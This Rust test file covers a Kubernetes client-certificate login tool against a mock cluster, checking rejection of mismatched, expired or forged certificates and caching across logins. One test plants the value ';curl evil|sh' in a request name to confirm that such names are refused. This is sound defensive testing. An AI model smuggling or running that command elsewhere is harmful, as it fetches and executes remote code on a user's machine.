//! Requests for certificates with a provider and a cluster in this process, and a clock that tests set.

use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use futures_util::FutureExt as _;
use portcullis_http::https_client::testing::{H1, RecordedRequest, Reply, TestServer, reply};
use portcullis_http::proxy::ProxyChoice;
use serde_json::{Value, json};
use testkit::pki::{Ca, KeyKind as TestKeyKind};

use super::*;
use crate::login::session::tests::{START, Setup, json_reply};
use crate::login::settings::ClientSettings;

const CSRS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
/// The validity of signed certificates.
const VALIDITY: u64 = 3600;

/// What the cluster does with requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Signing {
    Good,
    OtherKey,
    OtherUser,
    OtherGroups,
    Expired,
    NotYetValid,
    ServerAuth,
    NoCertificate,
    Denied,
    Failed,
    Nothing,
}

/// A cluster that signs requests when they are listed.
struct Cluster {
    server: TestServer,
    state: Arc<ClusterState>,
    authority: Ca,
}

struct ClusterState {
    signer: Ca,
    time: Arc<AtomicU64>,
    user: Mutex<Value>,
    signing: Mutex<Signing>,
    requests: Mutex<Vec<Value>>,
    created: AtomicUsize,
    /// Runs once, before the next request is signed.
    before_signing: Mutex<Option<Box<dyn FnOnce() + Send>>>,
    /// Runs once, before the next answer about the user.
    before_review: Mutex<Option<Box<dyn FnOnce() + Send>>>,
    /// Whether watches are refused, as those with an expired token are.
    refuses_watches: AtomicBool,
    /// The end of the names of requests.
    suffix: Mutex<&'static str>,
    /// Whether users may create requests.
    allows: AtomicBool,
}

impl ClusterState {
    fn answer(&self, request: &RecordedRequest) -> Reply {
        let (path, query) = request.target.split_once('?').unwrap_or((&request.target, ""));
        match (request.method.as_str(), path) {
            ("POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews") => {
                if let Some(event) = self.before_review.lock().unwrap().take() {
                    event();
                }
                json_reply(201, &json!({"status": {"userInfo": *self.user.lock().unwrap()}}))
            }
            ("POST", CSRS) if !self.allows.load(Ordering::SeqCst) => json_reply(
                403,
                &json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": "Forbidden", "code": 403,
                    "message": "certificatesigningrequests.certificates.k8s.io is forbidden: User \"alice\" cannot create \
                        resource \"certificatesigningrequests\" in API group \"certificates.k8s.io\" at the cluster scope"}),
            ),
            ("POST", CSRS) => {
                let mut object: Value = serde_json::from_slice(&request.body).unwrap();
                let number = self.created.fetch_add(1, Ordering::SeqCst);
                let name = format!("portcullis-{number}{}", self.suffix.lock().unwrap());
                object["metadata"] = json!({"name": name, "uid": format!("uid-{number}")});
                self.requests.lock().unwrap().push(object.clone());
                json_reply(201, &object)
            }
            ("GET", CSRS) if query.contains("watch") && self.refuses_watches.load(Ordering::SeqCst) => {
                json_reply(
                    401,
                    &json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": "Unauthorized",
                    "reason": "Unauthorized", "code": 401}),
                )
            }
            ("GET", CSRS) if query.contains("watch") => {
                Ok(http::Response::new(http_body_util::BodyExt::boxed(Silence)))
            }
            ("GET", CSRS) => {
                if let Some(event) = self.before_signing.lock().unwrap().take() {
                    event();
                }
                let signing = *self.signing.lock().unwrap();
                let requests = self.requests.lock().unwrap();
                let found = requests.iter().filter(|object| {
                    let selector =
                        format!("metadata.name%3D{}", object["metadata"]["name"].as_str().unwrap());
                    query.split('&').any(|parameter| parameter.ends_with(&selector))
                });
                let items: Vec<Value> = found.map(|object| self.ended(object, signing)).collect();
                json_reply(
                    200,
                    &json!({"kind": "CertificateSigningRequestList", "apiVersion": "certificates.k8s.io/v1",
                        "metadata": {"resourceVersion": "1"}, "items": items}),
                )
            }
            _ => reply(404, ""),
        }
    }

    fn ended(&self, object: &Value, signing: Signing) -> Value {
        let mut object = object.clone();
        let condition =
            |kind: &str| json!({"type": kind, "status": "True", "reason": "Test", "message": "of the test"});
        object["status"] = match signing {
            Signing::Nothing => json!({}),
            Signing::Denied => json!({"conditions": [condition("Denied")]}),
            Signing::Failed => json!({"conditions": [condition("Approved"), condition("Failed")]}),
            signing => json!({
                "conditions": [condition("Approved")],
                "certificate": STANDARD.encode(self.certificate(&object, signing)),
            }),
        };
        object
    }

    fn certificate(&self, object: &Value, signing: Signing) -> String {
        let pem = STANDARD.decode(object["spec"]["request"].as_str().unwrap()).unwrap();
        let request = CertificateRequest::from_pem(&pem).unwrap();
        let mut subject = request.subject().clone();
        let now = i64::try_from(self.time.load(Ordering::SeqCst)).unwrap();
        let (mut not_before, mut not_after) = (now - 300, now + i64::try_from(VALIDITY).unwrap());
        match signing {
            Signing::OtherUser => "mallory".clone_into(&mut subject.common_name),
            Signing::OtherGroups => subject.organization.push("admins".to_owned()),
            Signing::Expired => not_after = now,
            Signing::NotYetValid => not_before = now + 60,
            Signing::NoCertificate => return "no certificate".to_owned(),
            _ => {}
        }
        let usage = if signing == Signing::ServerAuth { "1.3.6.1.5.5.7.3.1" } else { "1.3.6.1.5.5.7.3.2" };
        let leaf = self
            .signer
            .leaf()
            .raw_subject(subject.to_der().unwrap())
            .validity(not_before, not_after)
            .eku(&[usage]);
        let leaf = match signing {
            Signing::OtherKey => leaf.key(TestKeyKind::P256),
            _ => leaf.raw_spki(request.public_key().spki().to_vec()),
        };
        format!("comment\n{}", leaf.issue().cert_pem())
    }
}

/// A body that never ends.
struct Silence;

impl http_body::Body for Silence {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<Self::Data>, Self::Error>>> {
        std::task::Poll::Pending
    }
}

/// A user with a login, and a cluster.
struct User {
    setup: Setup,
    cluster: Cluster,
    settings: ClientSettings,
    cache: LoginCache,
}

impl User {
    async fn new() -> Self {
        let setup = Setup::new().await;
        let settings = setup.device();
        setup.ask(&settings, true).await.unwrap();
        let authority = Ca::new("cluster");
        let state = Arc::new(ClusterState {
            signer: Ca::new("clients"),
            time: Arc::clone(&setup.time),
            user: Mutex::new(json!({"username": "alice", "groups": ["b", "a", "system:authenticated"]})),
            signing: Mutex::new(Signing::Good),
            requests: Mutex::default(),
            created: AtomicUsize::new(0),
            before_signing: Mutex::default(),
            before_review: Mutex::default(),
            refuses_watches: AtomicBool::new(false),
            suffix: Mutex::new(""),
            allows: AtomicBool::new(true),
        });
        let answers = Arc::clone(&state);
        let server = TestServer::of(&authority, H1, move |request| answers.answer(request)).await;
        let cache = setup.cache();
        Self { setup, cluster: Cluster { server, state, authority }, settings, cache }
    }

    async fn ask(&self) -> Result<CertificateCredential, CertificateError> {
        self.ask_with(false, Duration::from_mins(1)).await
    }

    async fn ask_with(
        &self,
        force: bool,
        timeout: Duration,
    ) -> Result<CertificateCredential, CertificateError> {
        let server = ApiServer {
            url: self.cluster.server.url(""),
            authorities: Some(self.cluster.authority.cert_pem().into_bytes()),
            server_name: None,
            proxy: ProxyChoice::default(),
        };
        let settings = CertificateSettings {
            signer_name: "kubernetes.io/kube-apiserver-client".to_owned(),
            expiration_seconds: 3600,
            timeout,
        };
        let cache = &self.cache;
        let session = self.setup.session(&self.settings, cache, false);
        CertificateSession { session, cache, server: &server, settings: &settings, force }.credential().await
    }

    fn sign(&self, signing: Signing) {
        *self.cluster.state.signing.lock().unwrap() = signing;
    }

    fn is(&self, user: Value) {
        *self.cluster.state.user.lock().unwrap() = user;
    }

    fn created(&self) -> usize {
        self.cluster.state.created.load(Ordering::SeqCst)
    }

    fn login(&self) -> CacheEntry {
        self.setup.entry(&self.settings)
    }
}

/// A deadline that passes at once; the request stays open.
const SOON: Duration = Duration::from_millis(100);

#[tokio::test]
async fn a_certificate_is_of_the_user_of_the_token() {
    let user = User::new().await;
    let credential = user.ask().await.unwrap();
    let chain = certificate_chain(credential.certificate.as_bytes());
    assert!(credential.certificate.starts_with("-----BEGIN CERTIFICATE-----"), "{}", credential.certificate);
    let leaf = Certificate::parse(chain[0].clone()).unwrap();
    let key = PemKey::from_pem(credential.key.expose_secret().as_bytes()).unwrap();
    assert_eq!(leaf.spki, key.public_key());
    assert_eq!(leaf.subject.name.to_string(), "O=a + O=b, CN=alice");
    assert_eq!(credential.renew_at, UnixTime::from_secs(START + VALIDITY - 60));
    let object = user.cluster.state.requests.lock().unwrap()[0].clone();
    assert_eq!(object["spec"]["signerName"], "kubernetes.io/kube-apiserver-client");
    assert_eq!(object["spec"]["expirationSeconds"], 3600);
    assert_eq!(object["spec"]["usages"], json!(["digital signature", "client auth"]));
}

#[tokio::test]
async fn a_certificate_is_cached_and_replaced_before_it_expires() {
    let user = User::new().await;
    let first = user.ask().await.unwrap();
    user.cluster.server.take();
    user.setup.server.take();
    for _ in 0..3 {
        assert_eq!(user.ask().await.unwrap().certificate, first.certificate);
    }
    // The token has expired, and is not needed.
    user.setup.pass(VALIDITY - 61);
    assert_eq!(user.ask().await.unwrap().certificate, first.certificate);
    assert!(user.cluster.server.take().is_empty() && user.setup.server.take().is_empty(), "nothing is asked");
    user.setup.pass(1);
    assert_ne!(user.ask().await.unwrap().certificate, first.certificate);
    assert_eq!(user.created(), 2);
    // `login` gets another one at once, for new groups.
    user.is(json!({"username": "alice", "groups": ["c"]}));
    let forced = user.ask_with(true, SOON * 600).await.unwrap();
    let leaf = Certificate::parse(certificate_chain(forced.certificate.as_bytes())[0].clone()).unwrap();
    assert_eq!((leaf.subject.name.to_string().as_str(), user.created()), ("O=c, CN=alice", 3));
}

#[tokio::test]
async fn a_certificate_is_used_until_it_expires_whatever_the_provider_says() {
    let user = User::new().await;
    let first = user.ask().await.unwrap();
    user.setup.revoke();
    user.setup.pass(VALIDITY - 60);
    for _ in 0..2 {
        assert_eq!(user.ask().await.unwrap().certificate, first.certificate);
    }
    user.setup.pass(60);
    let error = user.ask().await.unwrap_err();
    assert!(matches!(error, CertificateError::Login(LoginError::LoginRequired(_))), "{error}");
}

#[tokio::test]
async fn a_certificate_that_the_keyring_does_not_keep_is_used() {
    let mut user = User::new().await;
    // The one before the request. Neither the request nor the certificate is kept.
    user.cache = LoginCache::failing_after(&user.setup.home.path().join("cache"), 1);
    let credential = user.ask().await.unwrap();
    assert!(credential.certificate.starts_with("-----BEGIN CERTIFICATE-----"), "{}", credential.certificate);
    user.ask().await.unwrap_err();
    assert_eq!(user.created(), 1, "a request that cannot be kept is not created");
}

#[tokio::test]
async fn twenty_at_once_create_one_request() {
    let user = User::new().await;
    for requests in 1..3 {
        let all = futures_util::future::join_all((0..20).map(|_| user.ask())).await;
        let distinct: std::collections::BTreeSet<_> =
            all.into_iter().map(|credential| credential.unwrap().certificate).collect();
        assert_eq!((distinct.len(), user.created()), (1, requests));
        user.setup.pass(VALIDITY);
    }
}

#[tokio::test]
async fn those_that_wait_for_a_refused_request_share_the_refusal() {
    let user = User::new().await;
    user.cluster.state.allows.store(false, Ordering::SeqCst);
    user.cluster.server.take();
    let all = futures_util::future::join_all((0..20).map(|_| user.ask())).await;
    assert!(all.into_iter().all(|one| one.unwrap_err().to_string().contains("does not let you request")));
    let requests = user.cluster.server.take();
    assert_eq!(requests.iter().filter(|request| request.target.starts_with(CSRS)).count(), 1);
    user.cluster.state.allows.store(true, Ordering::SeqCst);
    user.ask().await.unwrap();
}

#[tokio::test]
async fn a_certificate_that_was_not_requested_is_not_used() {
    let user = User::new().await;
    let cases = [
        (Signing::OtherKey, "for another key"),
        (Signing::OtherUser, "its subject is O=a + O=b, CN=mallory, not"),
        (Signing::OtherGroups, "its subject is O=a + O=b + O=admins, CN=alice, not"),
        (Signing::Expired, "has expired when it arrives"),
        (Signing::NotYetValid, "not valid yet"),
        (Signing::ServerAuth, "not for client authentication"),
        (Signing::NoCertificate, "has returned none"),
        (Signing::Denied, "was denied: Test: of the test"),
        (Signing::Failed, "refused the request: Test: of the test"),
    ];
    for (index, (signing, part)) in cases.into_iter().enumerate() {
        user.sign(signing);
        let error = user.ask().await.unwrap_err().to_string();
        assert!(error.contains(part), "{signing:?}: {error}");
        assert_eq!(user.created(), index + 1, "{signing:?}: each command makes a new request");
    }
    user.sign(Signing::Good);
    user.ask().await.unwrap();
    // While the old one is valid, a failure is a warning.
    user.setup.pass(VALIDITY - 60);
    user.sign(Signing::OtherUser);
    user.ask().await.unwrap();
    user.setup.pass(60);
    user.ask().await.unwrap_err();
}

#[tokio::test]
async fn a_request_that_is_not_approved_in_time_is_resumed() {
    let user = User::new().await;
    user.sign(Signing::Nothing);
    for _ in 0..2 {
        let error = user.ask_with(false, SOON).await.unwrap_err().to_string();
        for part in [
            "portcullis-0 has no certificate",
            "portcullis certs approve portcullis-0",
            "kubectl certificate approve",
        ] {
            assert!(error.contains(part), "{error}");
        }
    }
    user.sign(Signing::Good);
    user.ask().await.unwrap();
    assert_eq!(user.created(), 1);
    // A request for other groups, or one that the cluster has removed, is not resumed.
    user.sign(Signing::Nothing);
    user.setup.pass(VALIDITY);
    user.ask_with(false, SOON).await.unwrap_err();
    user.sign(Signing::Good);
    user.is(json!({"username": "alice", "groups": ["c"]}));
    user.ask().await.unwrap();
    assert_eq!(user.created(), 3);
    user.sign(Signing::Nothing);
    user.setup.pass(VALIDITY);
    user.ask_with(false, SOON).await.unwrap_err();
    user.cluster.state.requests.lock().unwrap().clear();
    user.sign(Signing::Good);
    user.ask().await.unwrap();
    assert_eq!(user.created(), 5);
}

#[tokio::test]
async fn a_user_who_may_not_create_requests_sees_the_rule() {
    let user = User::new().await;
    user.cluster.state.allows.store(false, Ordering::SeqCst);
    let error = user.ask().await.unwrap_err().to_string();
    for part in
        ["does not let you request a certificate", "User \"alice\" cannot create", "--verb=create,list,watch"]
    {
        assert!(error.contains(part), "{error}");
    }
}

#[tokio::test]
async fn what_a_certificate_cannot_carry_is_refused() {
    let user = User::new().await;
    let cases = [
        (
            json!({"username": "alice", "groups": ["system:masters"]}),
            "signs no client certificate for the group system:masters",
        ),
        (json!({"username": "system:anonymous"}), "does not know the user"),
        (json!({"username": ""}), "does not know the user"),
        (json!({"username": "system:portcullis"}), "the gateway's own user"),
        (json!({"username": "alice", "uid": "1"}), "it has a UID"),
        (
            json!({"username": "alice", "extra": {"example.com/tenant": ["a"]}}),
            "the extra key example.com/tenant",
        ),
        (json!({"username": "alice "}), "alice "),
        (json!({"username": "alice", "groups": ["a\u{200b}"]}), "invisible"),
    ];
    for (who, part) in cases {
        user.is(who.clone());
        let error = user.ask().await.unwrap_err().to_string();
        assert!(error.contains(part) && error.contains("without --client-certificate"), "{who}: {error}");
    }
    assert_eq!(user.created(), 0);
    user.is(json!({"username": "alice", "extra": {"authentication.kubernetes.io/credential-id": ["JTI=1"]}}));
    user.ask().await.unwrap();
}

#[tokio::test]
async fn a_certificate_belongs_to_its_login() {
    let user = User::new().await;
    let first = user.ask().await.unwrap();
    // Another user logs in with the same client.
    user.login().remove().await.unwrap();
    *user.setup.state.claims.lock().unwrap() = json!({"sub": "bob"});
    user.setup.ask(&user.settings, true).await.unwrap();
    user.is(json!({"username": "bob"}));
    assert_ne!(user.ask().await.unwrap().certificate, first.certificate);
    // After a logout, the certificate is not used, and the next login gets a new one.
    assert_eq!(user.login().certificates().await.unwrap().len(), 1);
    user.login().remove().await.unwrap();
    let error = user.ask().await.unwrap_err();
    assert!(matches!(error, CertificateError::Login(LoginError::LoginRequired(_))), "{error}");
}

/// The certificate is of the login that its token came from, also if another user logs in while the cluster answers.
#[tokio::test]
async fn another_login_meanwhile_gets_no_certificate_of_this_user() {
    let user = User::new().await;
    let login = user.login();
    let log_in = move || {
        // A store of files has nothing to wait for.
        let mut tokens = login.read().now_or_never().unwrap().unwrap().unwrap();
        tokens.subject = Some("bob".to_owned());
        login.write(&tokens).now_or_never().unwrap().unwrap();
    };
    *user.cluster.state.before_review.lock().unwrap() = Some(Box::new(log_in));
    user.ask().await.unwrap_err();
    for entry in user.login().certificates().await.unwrap() {
        let kept = entry.read_certificate().await.unwrap().unwrap();
        assert_ne!(kept.subject.as_deref(), Some("bob"));
    }
}

#[tokio::test]
async fn an_old_certificate_is_no_bridge_beyond_its_end_or_its_login() {
    let user = User::new().await;
    user.ask().await.unwrap();
    user.setup.pass(VALIDITY - 60);
    user.sign(Signing::OtherUser);
    // It expires while the request waits.
    let time = Arc::clone(&user.setup.time);
    let pass = move || time.store(time.load(Ordering::SeqCst) + 120, Ordering::SeqCst);
    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(pass));
    user.ask().await.unwrap_err();
    // The user logs out while the request waits.
    user.sign(Signing::Good);
    user.ask().await.unwrap();
    user.setup.pass(VALIDITY - 60);
    user.sign(Signing::OtherUser);
    let login = user.login();
    let log_out = move || assert_eq!(login.remove_login().now_or_never().unwrap().certificates, 1);
    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(log_out));
    user.ask().await.unwrap_err();
}

/// The watch of a request is renewed, and an expired token is refused then: the request still waits.
#[tokio::test]
async fn a_token_that_expires_while_the_request_waits_leaves_it_pending() {
    let user = User::new().await;
    user.sign(Signing::Nothing);
    user.cluster.state.refuses_watches.store(true, Ordering::SeqCst);
    let error = user.ask().await.unwrap_err();
    assert!(matches!(error, CertificateError::Cluster(_)), "a valid token is refused: {error}");
    let time = Arc::clone(&user.setup.time);
    let pass = move || time.store(time.load(Ordering::SeqCst) + 3600, Ordering::SeqCst);
    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(pass));
    let error = user.ask().await.unwrap_err();
    assert!(matches!(error, CertificateError::Pending { .. }), "{error}");
}

#[tokio::test]
async fn no_request_is_made_that_cannot_be_kept() {
    let user = User::new().await;
    user.ask().await.unwrap();
    let directory = user.setup.home.path().join("cache");
    let mut files = std::fs::read_dir(&directory).unwrap().map(|entry| entry.unwrap().path());
    let is_certificate = |file: &std::path::PathBuf| {
        let name = file.file_name().unwrap_or_default().to_string_lossy();
        name.contains('-') && name.ends_with(".json")
    };
    let file = files.find(is_certificate).unwrap();
    // What cannot be replaced by a file.
    std::fs::remove_file(&file).unwrap();
    std::fs::create_dir_all(file.join("in the way")).unwrap();
    for _ in 0..2 {
        user.ask().await.unwrap_err();
    }
    assert_eq!(user.created(), 1, "that of before");
}

/// The name is part of the commands that are printed.
#[tokio::test]
async fn a_request_with_a_name_for_a_shell_is_refused() {
    let user = User::new().await;
    *user.cluster.state.suffix.lock().unwrap() = ";curl evil|sh";
    user.sign(Signing::Nothing);
    let error = user.ask_with(false, SOON).await.unwrap_err().to_string();
    assert!(error.contains("a request of the name") && !error.contains("approve"), "{error}");
}

#[tokio::test]
async fn a_certificate_that_arrives_after_the_logout_is_not_kept() {
    let user = User::new().await;
    let login = user.login();
    let logout = move || {
        // A store of files has nothing to wait for.
        let removed = login.remove_login().now_or_never().unwrap();
        assert_eq!(removed.certificates, 1, "the request with its key");
    };
    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(logout));
    user.ask().await.unwrap();
    assert!(user.login().certificates().await.unwrap().is_empty());
}
